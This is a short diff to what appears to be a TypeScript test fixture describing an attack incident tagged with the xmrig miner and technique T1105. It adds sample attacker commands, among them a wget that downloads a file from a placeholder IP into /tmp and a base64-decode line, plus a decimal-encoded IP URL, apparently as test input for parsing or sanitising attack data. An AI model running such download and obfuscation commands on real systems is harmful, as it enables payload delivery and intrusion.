@@ -25,8 +25,12 @@ const attack: Incident['attacks'][number] = {
   results: ['increased access'],
   families: ['xmrig'],
   techniques: ['T1105'],
-  commands: ['wget "http://198.51.100.9/a;b" -O /tmp/x', 'echo secret-pot'],
-  urls: ["http://198.51.100.9/a;b?c='d'", 'http://pot.example/from/192.0.2.66'],
+  commands: [
+    'wget "http://198.51.100.9/a;b" -O /tmp/x',
+    'echo secret-pot',
+    'echo c2VjcmV0LXBvdA== | base64 -d',
+  ],
+  urls: ["http://198.51.100.9/a;b?c='d'", 'http://pot.example/from/192.0.2.66', 'http://3221226050/x'],
   files: [hash, 'not a hash'],
   links: [],
 };
